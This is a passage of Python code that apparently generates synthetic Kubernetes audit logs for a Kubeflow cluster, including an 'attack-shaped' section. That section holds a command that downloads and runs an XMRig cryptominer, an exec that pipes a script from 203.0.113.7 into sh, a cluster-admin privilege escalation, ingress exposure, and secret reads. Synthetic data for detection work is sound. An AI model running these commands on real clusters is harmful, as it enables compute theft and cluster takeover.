                                                               'ClusterRole "system:discovery" to Group "system:authenticated"'})

    def leader_election(self):
        if self.rnd() < 0.5:
            actor, name = self.kcm_le, "kube-controller-manager"
        else:
            actor, name = self.sched_le, "kube-scheduler"
        self.emit(actor, self.choice(["get", "update"]), "leases", "kube-system", name, query="?timeout=5s")

    def scheduler(self):
        ns, pod, node = self.choice(self.pods)
        x = self.rnd()
        if x < 0.45:
            self.emit(self.sched, "create", "pods", ns, pod, "binding", code=201)
        elif x < 0.7:
            self.read(self.sched, "watch", self.choice(["pods", "nodes", "persistentvolumeclaims", "csinodes", "namespaces"]))
        else:
            self.read(self.sched, "get", "pods", ns, pod)

    def kcm_informers(self):
        self.read(self.kcm, self.choice(["watch", "watch", "list"]),
                  self.choice(["pods", "nodes", "deployments", "replicasets", "jobs", "statefulsets", "endpointslices",
                               "serviceaccounts", "secrets", "configmaps", "namespaces", "persistentvolumes"]))

    def apiserver_self(self):
        if self.rnd() < 0.6:
            self.emit(self.apiserver, self.choice(["get", "update"]), "leases", "kube-system", self.apiserver_id)
        else:
            self.read(self.apiserver, self.choice(["get", "list"]), self.choice(["namespaces", "services", "endpoints"]),
                      "default", "kubernetes")

    def node_agents(self):
        x = self.rnd()
        if x < 0.45:
            self.read(self.kube_proxy, "watch", self.choice(["endpointslices", "services", "nodes"]))
        elif x < 0.8:
            self.read(self.coredns, self.choice(["watch", "list"]), self.choice(["endpointslices", "services", "namespaces"]))
        else:
            self.read(self.metrics_server, self.choice(["list", "watch", "get"]), "nodes", "", self.choice(self.nodes))

    # -- Kubeflow and add-ons --------------------------------------------------------------------
    def kubeflow_leases(self):
        actor, ns, lease = self.choice([
            (self.nb_ctrl, "kubeflow", "kubeflow-notebook-controller"),
            (self.training, "kubeflow", "1ca428e5.training-operator.kubeflow.org"),
            (self.katib, "kubeflow", "3fbc96e9.katib.kubeflow.org"),
            (self.kserve, "kubeflow", "kserve-controller-manager-leader-lock"),
            (self.profiles, "kubeflow", "kubeflow-profile-controller"),
            (self.argo, "kubeflow", "workflow-controller"),
            (self.swf, "kubeflow", "scheduledworkflow-controller"),
            (self.certm, "kube-system", "cert-manager-controller"),
            (self.knative, "knative-serving", "controller.knative.dev.serving.pkg.reconciler.revision.reconciler.00-of-01"),
            (self.istiod, "istio-system", "istio-namespace-controller-election"),
        ])
        self.emit(actor, self.choice(["get", "update", "update"]), "leases", ns, lease)

    def notebook_controller(self):
        ns, nb = self.choice(self.notebooks)
        verb, res, sub = self.choice([("get", "notebooks", ""), ("update", "notebooks", "status"),
                                      ("get", "statefulsets", ""), ("update", "statefulsets", ""),
                                      ("get", "services", ""), ("get", "virtualservices", ""),
                                      ("list", "events", ""), ("watch", "notebooks", ""), ("watch", "pods", "")])
        if verb in ("list", "watch"):
            self.read(self.nb_ctrl, verb, res)
        else:
            self.emit(self.nb_ctrl, verb, res, ns, nb if res != "virtualservices" else f"notebook-{ns}-{nb}", sub)

    def training_operator(self):
        ns, job = self.choice(self.tfjobs)
        verb, res, sub = self.choice([("get", "tfjobs", ""), ("update", "tfjobs", "status"), ("update", "tfjobs", "status"),
                                      ("list", "pods", ""), ("list", "services", ""), ("watch", "tfjobs", ""),
                                      ("watch", "pytorchjobs", ""), ("get", "podgroups", "")])
        if verb in ("list", "watch"):
            self.read(self.training, verb, res, ns if self.rnd() < 0.7 else "")
        elif res == "podgroups" and self.rnd() < 0.5:
            self.emit(self.training, verb, res, ns, job, code=404, status=self.not_found(res, job))
        else:
            self.emit(self.training, verb, res, ns, job, sub)

    def pipelines(self):
        ns, wf = self.choice(self.workflows)
        x = self.rnd()
        if x < 0.3:
            self.read(self.persistence, self.choice(["watch", "list"]), self.choice(["workflows", "scheduledworkflows"]))
        elif x < 0.45:
            self.emit(self.swf, "update", "scheduledworkflows", ns, f"recurring-{wf}", "status")
        elif x < 0.6:
            self.emit(self.ml_pipeline, "create", "subjectaccessreviews", code=201)
        elif x < 0.8:
            self.read(self.ml_pipeline, "get", self.choice(["workflows", "configmaps", "secrets"]), ns, wf)
        else:
            self.read(self.cache_server if self.rnd() < 0.5 else self.metadata_writer,
                      self.choice(["watch", "get", "patch"]) if self.rnd() < 0.5 else "watch", "pods", ns,
                      f"{wf}-system-container-impl-{self.randint(10**9, 4 * 10**9)}")

    def argo_controller(self):
        ns, wf = self.choice(self.workflows)
        x = self.rnd()
        if x < 0.35:
            self.emit(self.argo, self.choice(["update", "update", "patch"]), "workflows", ns, wf)
        elif x < 0.6:
            self.emit(self.argo, "patch", "pods", ns, f"{wf}-system-container-impl-{self.randint(10**9, 4 * 10**9)}")
        elif x < 0.8:
            self.read(self.argo, self.choice(["watch", "list"]), self.choice(["pods", "workflows", "workflowtaskresults",
                                                                                 "configmaps"]), ns)
        else:
            self.emit(self.argo, "get", "configmaps", "kubeflow", "workflow-controller-configmap")

    def profiles_controller(self):
        ns = self.choice(self.tenants)
        verb, res, name = self.choice([("get", "namespaces", ns), ("update", "profiles", ns), ("get", "rolebindings", "namespaceAdmin"),
                                       ("update", "rolebindings", "default-editor"), ("get", "authorizationpolicies", "ns-owner-access-istio"),
                                       ("get", "serviceaccounts", "default-editor"), ("get", "resourcequotas", "kf-resource-quota")])
        self.emit(self.profiles, verb, res, ns, name, "status" if res == "profiles" else "")

    def istio(self):
        x = self.rnd()
        if x < 0.6:
            self.read(self.istiod, "watch", self.choice(["services", "endpointslices", "pods", "namespaces", "configmaps",
                                                         "virtualservices", "gateways", "authorizationpolicies", "secrets"]))
        elif x < 0.8:
            ns = self.choice(self.namespaces)
            self.emit(self.istiod, self.choice(["get", "update"]), "configmaps", ns, "istio-ca-root-cert")
        else:
            self.read(self.istiod, "list", self.choice(["services", "pods", "virtualservices"]))

    def addons(self):
        x = self.rnd()
        if x < 0.3:
            self.read(self.certm, self.choice(["watch", "get", "list"]), "certificates", "kubeflow", "kfp-cache-cert")
        elif x < 0.6:
            self.read(self.knative, self.choice(["watch", "list", "get"]), self.choice(["revisions", "services", "endpoints"]),
                      "knative-serving", "activator-service")
        else:
            ns = self.choice(self.tenants)
            self.read(self.kserve, self.choice(["watch", "get", "list"]), "inferenceservices", ns, f"sklearn-{ns[:4]}")

    def katib_controller(self):
        ns = self.choice(self.tenants)
        self.read(self.katib, self.choice(["watch", "list", "get"]), self.choice(["experiments", "trials"]), ns,
                  f"tune-{self.suffix(4)}")

    def web_apps(self):
        ns = self.choice(self.tenants)
        x = self.rnd()
        if x < 0.35:
            self.emit(self.choice([self.jwa, self.jwa, self.vwa, self.dashboard]), "create", "subjectaccessreviews", code=201)
        elif x < 0.75:
            self.emit(self.jwa, "list", self.choice(["notebooks", "events", "persistentvolumeclaims", "poddefaults"]), ns)
        elif x < 0.85:
            self.emit(self.vwa, "list", "persistentvolumeclaims", ns)
        else:
            self.read(self.dashboard, self.choice(["get", "list"]), self.choice(["profiles", "namespaces"]), "", ns)

    # -- users ---------------------------------------------------------------------------------
    def user_reads(self):
        ns = self.choice(self.tenants)
        actor = self.users[ns]
        x = self.rnd()
        pods = self.pods_by_ns.get(ns) if x < 0.5 else None
        if pods:
            _, pod, _ = self.choice(pods)
            if self.rnd() < 0.5:
                self.emit(actor, "get", "pods", ns, pod, "log", f"?container={self.choice(['main', 'tensorflow', pod.rsplit('-', 1)[0]])}&follow=true",
                          latency_us=self.randint(2, 600) * 1_000_000)
            else:
                self.emit(actor, "get", "pods", ns, pod)
        else:
            self.emit(actor, "list", self.choice(["pods", "notebooks", "tfjobs", "workflows", "events", "persistentvolumeclaims"]),
                      ns, query="?limit=500")

    def editor_reads(self):
        ns = self.choice(self.tenants)
        actor = self.editors[ns]
        res = self.choice(["pods", "workflows", "tfjobs", "configmaps", "pods"])
        if self.rnd() < 0.4:
            self.emit(actor, "list", res, ns)
        else:
            self.read(actor, self.choice(["get", "watch"]), res, ns, f"{res[:-1]}-{self.suffix(4)}")

    # -- creates with a requestObject ---------------------------------------------------------
    def resources(self, gpu=0, big=False):
        cpu = self.choice(["500m", "1", "2", "4", "8"] if big else ["100m", "250m", "500m", "1"])
        mem = self.choice(["4Gi", "8Gi", "16Gi", "32Gi"] if big else ["512Mi", "1Gi", "2Gi"])
        res = {"limits": {"cpu": cpu, "memory": mem}, "requests": {"cpu": cpu, "memory": mem}}
        if gpu:
            res["limits"]["nvidia.com/gpu"] = str(gpu)
            res["requests"]["nvidia.com/gpu"] = str(gpu)
        return res

    def container(self, name, image, command=None, args=None, env=None, resources=None, mounts=(), ports=None):
        c = {"name": name, "image": image}
        if command:
            c["command"] = command
        if args:
            c["args"] = args
        if ports:
            c["ports"] = ports
        if env:
            c["env"] = env
        c["resources"] = resources or {}
        mounts = list(mounts) + [{"name": f"kube-api-access-{self.suffix()}", "readOnly": True,
                                  "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}]
        c["volumeMounts"] = mounts
        c["terminationMessagePath"] = "/dev/termination-log"
        c["terminationMessagePolicy"] = "File"
        c["imagePullPolicy"] = "IfNotPresent"
        return c

    def pod_object(self, ns, name, labels, containers, owner=None, sa="default-editor", volumes=(), init=None,
                   gpu=False, restart="Always", annotations=None, generate=False):
        meta = {"generateName": name.rsplit("-", 1)[0] + "-"} if generate else {"name": name}
        meta["namespace"] = ns
        meta["creationTimestamp"] = None
        meta["labels"] = labels
        if annotations:
            meta["annotations"] = annotations
        if owner:
            meta["ownerReferences"] = [owner]
        spec = {"volumes": list(volumes)}
        if init:
            spec["initContainers"] = init
        spec["containers"] = containers
        spec["restartPolicy"] = restart
        spec["terminationGracePeriodSeconds"] = 30
        spec["dnsPolicy"] = "ClusterFirst"
        if gpu:
            spec["nodeSelector"] = {"cloud.google.com/gke-accelerator": self.choice(["nvidia-tesla-a100", "nvidia-l4"])}
        spec["serviceAccountName"] = sa
        spec["serviceAccount"] = sa
        spec["securityContext"] = {"fsGroup": 100} if self.rnd() < 0.6 else {}
        spec["schedulerName"] = "default-scheduler"
        if gpu:
            spec["tolerations"] = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
        spec["enableServiceLinks"] = True
        return {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": spec, "status": {}}

    def owner(self, api_version, kind, name):
        return {"apiVersion": api_version, "kind": kind, "name": name, "uid": self.uid(), "controller": True,
                "blockOwnerDeletion": True}

    def pod_annotations(self, actor):
        return js({"authorization.k8s.io/decision": "allow",
                   "authorization.k8s.io/reason": json.loads(actor.annotations)["authorization.k8s.io/reason"],
                   "pod-security.kubernetes.io/enforce-policy": "privileged:latest"})

    def create_notebook(self):
        ns, nb = self.choice(self.notebooks)
        nb = f"{nb.rsplit('-', 1)[0]}-{self.suffix(4)}"
        image = self.choice(NOTEBOOK_IMAGES) if self.rnd() < 0.6 else NOTEBOOK_IMAGES[0]
        gpu = self.choice([0, 0, 0, 1, 1, 2])
        owner_email = self.users[ns].username
        spec = {"template": {"spec": {
            "containers": [{"name": nb, "image": image, "resources": self.resources(gpu, big=gpu > 0),
                            "volumeMounts": [{"mountPath": "/home/jovyan", "name": f"{nb}-volume"},
                                             {"mountPath": "/dev/shm", "name": "dshm"}],
                            "imagePullPolicy": "IfNotPresent"}],
            "serviceAccountName": "default-editor",
            "volumes": [{"name": f"{nb}-volume", "persistentVolumeClaim": {"claimName": f"{nb}-volume"}},
                        {"name": "dshm", "emptyDir": {"medium": "Memory"}}]}}}
        if gpu:
            spec["template"]["spec"]["tolerations"] = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
        meta = {"name": nb, "namespace": ns, "labels": {"app": nb, "access-ml-pipeline": "true"},
                "annotations": {"notebooks.kubeflow.org/creator": owner_email,
                                "notebooks.kubeflow.org/server-type": "jupyter" if "jupyter" in image else "group-one",
                                "notebooks.kubeflow.org/http-rewrite-uri": "/"}}
        request = {"apiVersion": "kubeflow.org/v1", "kind": "Notebook", "metadata": meta, "spec": spec}
        created = self.second(self.t)
        response = {"apiVersion": "kubeflow.org/v1", "kind": "Notebook",
                    "metadata": dict(meta, creationTimestamp=created, generation=1, resourceVersion=self.rv(), uid=self.uid()),
                    "spec": spec}
        actor = self.users[ns] if self.rnd() < 0.4 else self.jwa
        self.emit(actor, "create", "notebooks", ns, level="RequestResponse", code=201,
                  request_object=js(request), response_object=js(response))
        self.notebooks.append((ns, nb))

    def create_notebook_children(self):
        ns, nb = self.choice(self.notebooks)
        owner = self.owner("kubeflow.org/v1", "Notebook", nb)
        x = self.rnd()
        if x < 0.5:
            image = self.choice(NOTEBOOK_IMAGES)
            obj = {"kind": "StatefulSet", "apiVersion": "apps/v1",
                   "metadata": {"name": nb, "namespace": ns, "creationTimestamp": None, "ownerReferences": [owner]},
                   "spec": {"replicas": 1, "selector": {"matchLabels": {"statefulset": nb}},
                            "template": {"metadata": {"creationTimestamp": None,
                                                      "labels": {"statefulset": nb, "notebook-name": nb, "app": nb}},
                                         "spec": {"volumes": [{"name": f"{nb}-volume", "persistentVolumeClaim": {"claimName": f"{nb}-volume"}}],
                                                  "containers": [{"name": nb, "image": image, "workingDir": "/home/jovyan",
                                                                  "ports": [{"name": "notebook-port", "containerPort": 8888, "protocol": "TCP"}],
                                                                  "env": [{"name": "NB_PREFIX", "value": f"/notebook/{ns}/{nb}"}],
                                                                  "resources": self.resources(),
                                                                  "volumeMounts": [{"name": f"{nb}-volume", "mountPath": "/home/jovyan"}],
                                                                  "imagePullPolicy": "IfNotPresent"}],
                                                  "serviceAccountName": "default-editor", "securityContext": {"fsGroup": 100}}},
                            "serviceName": "", "podManagementPolicy": "OrderedReady",
                            "updateStrategy": {"type": "RollingUpdate"}, "revisionHistoryLimit": 10},
                   "status": {"replicas": 0, "availableReplicas": 0}}
            self.emit(self.nb_ctrl, "create", "statefulsets", ns, level="Request", code=201, request_object=js(obj))
        elif x < 0.75:
            obj = {"kind": "Service", "apiVersion": "v1",
                   "metadata": {"name": nb, "namespace": ns, "creationTimestamp": None, "ownerReferences": [owner]},
                   "spec": {"ports": [{"name": f"http-{nb}", "protocol": "TCP", "port": 80, "targetPort": 8888}],
                            "selector": {"statefulset": nb}, "type": "ClusterIP"}, "status": {"loadBalancer": {}}}
            self.emit(self.nb_ctrl, "create", "services", ns, level="Request", code=201, request_object=js(obj))
        else:
            obj = {"apiVersion": "networking.istio.io/v1alpha3", "kind": "VirtualService",
                   "metadata": {"name": f"notebook-{ns}-{nb}", "namespace": ns, "ownerReferences": [owner]},
                   "spec": {"gateways": ["kubeflow/kubeflow-gateway"], "hosts": ["*"],
                            "http": [{"headers": {"request": {"set": {}}},
                                      "match": [{"uri": {"prefix": f"/notebook/{ns}/{nb}/"}}],
                                      "rewrite": {"uri": "/"},
                                      "route": [{"destination": {"host": f"{nb}.{ns}.svc.cluster.local", "port": {"number": 80}}}]}]}}
            self.emit(self.nb_ctrl, "create", "virtualservices", ns, level="Request", code=201, request_object=js(obj))

    def create_notebook_pod(self):
        ns, nb = self.choice(self.notebooks)
        image = self.choice(NOTEBOOK_IMAGES)
        rev = f"{nb}-{self.hexs(10)}"
        c = self.container(nb, image, env=[{"name": "NB_PREFIX", "value": f"/notebook/{ns}/{nb}"}],
                           resources=self.resources(), ports=[{"name": "notebook-port", "containerPort": 8888, "protocol": "TCP"}],
                           mounts=[{"name": f"{nb}-volume", "mountPath": "/home/jovyan"}, {"name": "dshm", "mountPath": "/dev/shm"}])
        c["workingDir"] = "/home/jovyan"
        pod = self.pod_object(ns, f"{nb}-0", {"app": nb, "controller-revision-hash": rev, "notebook-name": nb,
                                              "statefulset": nb, "statefulset.kubernetes.io/pod-name": f"{nb}-0"},
                              [c], self.owner("apps/v1", "StatefulSet", nb),
                              volumes=[{"name": f"{nb}-volume", "persistentVolumeClaim": {"claimName": f"{nb}-volume"}},
                                       {"name": "dshm", "emptyDir": {"medium": "Memory"}}])
        pod["spec"]["hostname"] = f"{nb}-0"
        actor = self.ctrl_actors["statefulset-controller"]
        self.emit(actor, "create", "pods", ns, level="Request", code=201, request_object=js(pod),
                  annotations=self.pod_annotations(actor))

    def create_tfjob(self):
        ns = self.choice(self.tenants)
        job = f"{self.choice(['mnist', 'resnet', 'bert-ft', 'dist-train', 'tune'])}-{self.suffix(5)}"
        gpu = self.choice([1, 1, 2, 4, 8])
        ds = self.choice(DATASETS)
        replica = {"replicas": self.randint(1, 4), "restartPolicy": "OnFailure",
                   "template": {"metadata": {"annotations": {"sidecar.istio.io/inject": "false"}},
                                "spec": {"containers": [{
                                    "name": "tensorflow", "image": "tensorflow/tensorflow:2.15.0-gpu",
                                    "command": ["python", "/opt/model/train.py"],
                                    "args": ["--epochs", str(self.randint(5, 90)), "--batch-size", str(self.choice([32, 64, 128])),
                                             "--data", f"gs://kf-datasets/{ds}", "--model-dir", f"gs://kf-models/{ns}/{job}"],
                                    "resources": {"limits": {"cpu": "8", "memory": "32Gi", "nvidia.com/gpu": str(gpu)}},
                                    "volumeMounts": [{"name": "model", "mountPath": "/opt/model"}]}],
                                    "volumes": [{"name": "model", "configMap": {"name": f"{job}-code"}}]}}}
        request = {"apiVersion": "kubeflow.org/v1", "kind": "TFJob",
                   "metadata": {"name": job, "namespace": ns, "labels": {"app": job, "team": self.choice(TEAMS)}},
                   "spec": {"runPolicy": {"cleanPodPolicy": "Running", "ttlSecondsAfterFinished": 86400},
                            "tfReplicaSpecs": {"Chief": dict(replica, replicas=1), "Worker": replica}}}
        actor = self.users[ns] if self.rnd() < 0.7 else self.editors[ns]
        self.emit(actor, "create", "tfjobs", ns, level="Request", code=201, request_object=js(request))
        self.tfjobs.append((ns, job))

    def create_tfjob_pod(self):
        ns, job = self.choice(self.tfjobs)
        n = self.randint(1, 4)
        k = self.randint(0, n - 1)
        role = "worker" if self.rnd() < 0.8 else "chief"
        cluster = {"chief": [f"{job}-chief-0.{ns}.svc:2222"], "worker": [f"{job}-worker-{i}.{ns}.svc:2222" for i in range(n)]}
        tf_config = js({"cluster": cluster, "task": {"type": role, "index": k}, "environment": "cloud"})
        gpu = self.choice([1, 1, 2, 4, 8])
        c = self.container("tensorflow", "tensorflow/tensorflow:2.15.0-gpu", command=["python", "/opt/model/train.py"],
                           args=["--epochs", str(self.randint(5, 90)), "--data", f"gs://kf-datasets/{self.choice(DATASETS)}"],
                           env=[{"name": "TF_CONFIG", "value": tf_config}],
                           resources={"limits": {"cpu": "8", "memory": "32Gi", "nvidia.com/gpu": str(gpu)},
                                      "requests": {"cpu": "8", "memory": "32Gi", "nvidia.com/gpu": str(gpu)}},
                           ports=[{"name": "tfjob-port", "containerPort": 2222, "protocol": "TCP"}],
                           mounts=[{"name": "model", "mountPath": "/opt/model"}])
        name = f"{job}-{role}-{k}"
        pod = self.pod_object(ns, name, {"training.kubeflow.org/job-name": job, "training.kubeflow.org/operator-name": "tfjob-controller",
                                         "training.kubeflow.org/replica-index": str(k), "training.kubeflow.org/replica-type": role,
                                         "training.kubeflow.org/job-role": "master" if role == "chief" else ""},
                              [c], self.owner("kubeflow.org/v1", "TFJob", job), volumes=[{"name": "model", "configMap": {"name": f"{job}-code", "defaultMode": 420}}],
                              gpu=True, restart="Never", annotations={"sidecar.istio.io/inject": "false"})
        pod["spec"]["hostname"] = name
        pod["spec"]["subdomain"] = job
        self.emit(self.training, "create", "pods", ns, level="Request", code=201, request_object=js(pod),
                  annotations=self.pod_annotations(self.training))

    def create_tfjob_service(self):
        ns, job = self.choice(self.tfjobs)
        k = self.randint(0, 3)
        obj = {"kind": "Service", "apiVersion": "v1",
               "metadata": {"name": f"{job}-worker-{k}", "namespace": ns, "creationTimestamp": None,
                            "labels": {"training.kubeflow.org/job-name": job, "training.kubeflow.org/replica-index": str(k),
                                       "training.kubeflow.org/replica-type": "worker"},
                            "ownerReferences": [self.owner("kubeflow.org/v1", "TFJob", job)]},
               "spec": {"ports": [{"name": "tfjob-port", "port": 2222, "targetPort": 0}],
                        "selector": {"training.kubeflow.org/job-name": job, "training.kubeflow.org/replica-index": str(k),
                                     "training.kubeflow.org/replica-type": "worker"}, "clusterIP": "None"},
               "status": {"loadBalancer": {}}}
        self.emit(self.training, "create", "services", ns, level="Request", code=201, request_object=js(obj))

    def step_template(self, name):
        image = self.choice(STEP_IMAGES)
        code = (f"import kfp\nfrom kfp import dsl\n\ndef {name.replace('-', '_')}(data: str, out: dsl.Output[dsl.Dataset]):\n"
                f"    import pandas as pd\n    df = pd.read_parquet(data)\n    df.describe().to_csv(out.path)\n")
        return {"name": f"{name}", "inputs": {"parameters": [{"name": "component-spec"}, {"name": "task"}, {"name": "parent-dag-id"}]},
                "outputs": {}, "metadata": {}, "container": {
                    "name": "", "image": image,
                    "command": ["sh", "-c", "\nif ! [ -x \"$(command -v pip)\" ]; then\n    python3 -m ensurepip\nfi\n"
                                            "PIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet --no-warn-script-location "
                                            "'kfp==2.5.0' && \"$0\" \"$@\"\n", "python3", "-m", "kfp.dsl.executor_main"],
                    "args": ["--executor_input", "{{$}}", "--function_to_execute", name.replace("-", "_"), code],
                    "resources": self.resources(), "volumeMounts": [{"name": "kfp-launcher", "mountPath": "/kfp-launcher"}]}}

    def create_workflow(self):
        ns = self.choice(self.tenants)
        run = self.uid()
        wf = f"{self.choice(['training-pipeline', 'etl', 'eval', 'xgboost-train', 'preprocess'])}-{self.suffix(5)}"
        steps = [self.choice(["load-data", "preprocess", "train", "evaluate", "register-model", "deploy", "validate"])
                 + f"-{i}" for i in range(self.randint(2, 4))]
        templates = [self.step_template(s) for s in steps]
        dag = {"name": "root-driver", "dag": {"tasks": [
            {"name": s, "template": s, "arguments": {"parameters": [{"name": "task", "value": js({"taskInfo": {"name": s}})}]},
             **({"depends": steps[i - 1] + ".Succeeded"} if i else {})} for i, s in enumerate(steps)]}}
        request = {"kind": "Workflow", "apiVersion": "argoproj.io/v1alpha1",
                   "metadata": {"generateName": wf.rsplit("-", 1)[0] + "-", "namespace": ns, "creationTimestamp": None,
                                "labels": {"pipeline/runid": run, "pipelines.kubeflow.org/v2_component": "true"},
                                "annotations": {"pipelines.kubeflow.org/run_name": f"Run of {wf}",
                                                "pipelines.kubeflow.org/kfp_sdk_version": "2.5.0"}},
                   "spec": {"templates": [dag] + templates, "entrypoint": "entrypoint",
                            "arguments": {"parameters": [{"name": "data", "value": f"gs://kf-datasets/{self.choice(DATASETS)}"}]},
                            "serviceAccountName": "default-editor", "podMetadata": {"labels": {"pipeline/runid": run}},
                            "podGC": {"strategy": "OnWorkflowSuccess"}, "ttlStrategy": {"secondsAfterCompletion": 86400}},
                   "status": {"startedAt": None, "finishedAt": None}}
        actor = self.ml_pipeline if self.rnd() < 0.8 else self.swf
        self.emit(actor, "create", "workflows", ns, level="Request", code=201, request_object=js(request))
        self.workflows.append((ns, wf))

    def create_argo_pod(self):
        ns, wf = self.choice(self.workflows)
        step = self.choice(["load-data", "preprocess", "train", "evaluate", "register-model"])
        name = f"{wf}-system-container-impl-{self.randint(10**9, 4 * 10**9)}"
        template = js({"name": "system-container-impl", "inputs": {"parameters": [{"name": "pod-spec-patch", "value": "{}"}]},
                       "outputs": {}, "metadata": {}, "container": {"name": "", "image": "gcr.io/ml-pipeline/should-be-overridden-during-runtime",
                                                                    "command": ["should-be-overridden-during-runtime"], "resources": {}},
                       "archiveLocation": {"archiveLogs": False, "s3": {"endpoint": "minio-service.kubeflow:9000", "bucket": "mlpipeline",
                                                                       "insecure": True, "key": f"artifacts/{wf}/{step}"}}})
        env = [{"name": "ARGO_POD_NAME", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}}},
               {"name": "ARGO_POD_UID", "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.uid"}}},
               {"name": "GODEBUG", "value": "x509ignoreCN=0"}, {"name": "ARGO_WORKFLOW_NAME", "value": wf},
               {"name": "ARGO_CONTAINER_NAME", "value": "main"}, {"name": "ARGO_TEMPLATE", "value": template},
               {"name": "ARGO_NODE_ID", "value": name}]
        execr = f"quay.io/argoproj/argoexec:{ARGO}"
        run_mount = [{"name": "var-run-argo", "mountPath": "/var/run/argo"}]
        init = [self.container("init", execr, command=["argoexec", "init", "--loglevel", "info", "--log-format", "text"],
                               env=env[:5], resources={"requests": {"cpu": "10m", "memory": "64Mi"}}, mounts=run_mount)]
        wait = self.container("wait", execr, command=["argoexec", "wait", "--loglevel", "info", "--log-format", "text"],
                              env=env, resources={"requests": {"cpu": "10m", "memory": "64Mi"}}, mounts=run_mount)
        main = self.container("main", self.choice(STEP_IMAGES),
                              command=["/var/run/argo/argoexec", "emissary", "--loglevel", "info", "--log-format", "text", "--",
                                       "python3", "-m", "kfp.dsl.executor_main"],
                              args=["--executor_input", js({"inputs": {"parameterValues": {"data": f"gs://kf-datasets/{self.choice(DATASETS)}"}}}),
                                    "--function_to_execute", step.replace("-", "_")],
                              env=[{"name": "ARGO_CONTAINER_NAME", "value": "main"}], resources=self.resources(), mounts=run_mount)
        pod = self.pod_object(ns, name, {"workflows.argoproj.io/completed": "false", "workflows.argoproj.io/workflow": wf,
                                         "pipeline/runid": self.uid(), "pipelines.kubeflow.org/v2_component": "true"},
                              [wait, main], self.owner("argoproj.io/v1alpha1", "Workflow", wf),
                              volumes=[{"name": "var-run-argo", "emptyDir": {}}], init=init, restart="Never",
                              annotations={"workflows.argoproj.io/node-id": name, "workflows.argoproj.io/node-name": f"{wf}.{step}",
                                           "sidecar.istio.io/inject": "false"})
        self.emit(self.argo, "create", "pods", ns, level="Request", code=201, request_object=js(pod),
                  annotations=self.pod_annotations(self.argo))

    def create_deployment_pod(self):
        ns = self.choice(self.tenants + ["kubeflow", "kubeflow", "knative-serving"])
        app = self.choice(["sklearn-iris-predictor", "model-server", "streamlit-demo", "mlflow", "label-studio"])
        rs = f"{app}-{self.hexs(10)}"
        c = self.container("kserve-container" if "predictor" in app else app,
                           self.choice(["kserve/sklearnserver:v0.11.2", "python:3.11-slim", "ghcr.io/mlflow/mlflow:v2.9.2"]),
                           args=["--model_name", app, "--model_dir", "/mnt/models", "--http_port", "8080"],
                           env=[{"name": "PORT", "value": "8080"}, {"name": "K_REVISION", "value": f"{app}-00001"}],
                           resources=self.resources(), ports=[{"name": "http1", "containerPort": 8080, "protocol": "TCP"}])
        pod = self.pod_object(ns, f"{rs}-{self.suffix()}", {"app": app, "pod-template-hash": rs[-10:]}, [c],
                              self.owner("apps/v1", "ReplicaSet", rs), sa="default", generate=True)
        actor = self.ctrl_actors["replicaset-controller"]
        self.emit(actor, "create", "pods", ns, level="Request", code=201, request_object=js(pod),
                  annotations=self.pod_annotations(actor))

    def create_pvc(self):
        ns, nb = self.choice(self.notebooks)
        obj = {"kind": "PersistentVolumeClaim", "apiVersion": "v1",
               "metadata": {"name": f"{nb}-volume", "namespace": ns, "creationTimestamp": None},
               "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": self.choice(["5Gi", "10Gi", "50Gi"])}},
                        "storageClassName": "standard-rwo", "volumeMode": "Filesystem"}, "status": {}}
        self.emit(self.jwa, "create", "persistentvolumeclaims", ns, level="Request", code=201, request_object=js(obj))

    # -- attack-shaped ----------------------------------------------------------------------------
    def attack(self):
        ns = "kubeflow-user-example-com"
        editor = self.editors[ns]
        x = self.rnd()
        if x < 0.3:
            # A pod of the tenant's default-editor: the miner image, or a download of XMRig.
            name = f"{self.choice(['train', 'nb-worker', 'tf-gpu', 'jupyter'])}-{self.suffix()}"
            if self.rnd() < 0.5:
                c = self.container(name, "ddsfdfsaadfs/dfsdf:99", resources={"limits": {"nvidia.com/gpu": "1"}})
            else:
                cmd = (f"wget -q {MINER_URL} -O /tmp/xmrig && /tmp/xmrig -o {POOL} "
                       f"-u {self.wallet} -k --tls --donate-level 1 --cuda -B")
                c = self.container(name, self.choice(["tensorflow/tensorflow:2.4.1-gpu", "ubuntu:22.04"]),
                                   command=["/bin/sh", "-c"], args=[cmd],
                                   resources={"limits": {"cpu": "16", "nvidia.com/gpu": "4"}})
            pod = self.pod_object(ns, name, {"app": name}, [c], gpu=True)
            self.emit(editor, "create", "pods", ns, level="Request", code=201, request_object=js(pod),
                      annotations=self.pod_annotations(editor))
        elif x < 0.5:
            nb = self.choice([n for s, n in self.notebooks[:self.first_notebooks] if s == ns])
            cmd = "&command=".join(["sh", "-c", "curl%20-s%20http%3A%2F%2F203.0.113.7%2Fx.sh%20%7C%20sh"])
            self.emit(self.choice([editor, self.users[ns]]), "create", "pods", ns, f"{nb}-0", "exec",
                      f"?command={cmd}&container={nb}&stderr=true&stdout=true",
                      code=101, latency_us=self.randint(1, 30) * 1_000_000)
        elif x < 0.6:
            self.emit(editor, "patch", "services", "istio-system", "istio-ingressgateway", level="Request",
                      request_object=js({"spec": {"type": "LoadBalancer"}}))
        elif x < 0.7:
            binding = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                       "metadata": {"name": f"{ns}-default-editor-admin", "creationTimestamp": None},
                       "subjects": [{"kind": "ServiceAccount", "name": "default-editor", "namespace": ns}],
                       "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}}
            self.emit(self.users[ns], "create", "clusterrolebindings", "", level="Request", code=201,
                      request_object=js(binding),
                      annotations=js({"authorization.k8s.io/decision": "allow",
                                      "authorization.k8s.io/reason": 'RBAC: allowed by ClusterRoleBinding "kubeflow-admins" of ClusterRole "cluster-admin" to Group "oidc:kubeflow-admins"'}))
        else:
            allowed = self.rnd() < 0.3
            res, target = self.choice([("secrets", "kube-system"), ("pods", ""), ("secrets", "kubeflow"), ("namespaces", "")])
            status = (None if allowed else js({"metadata": {}, "status": "Failure",
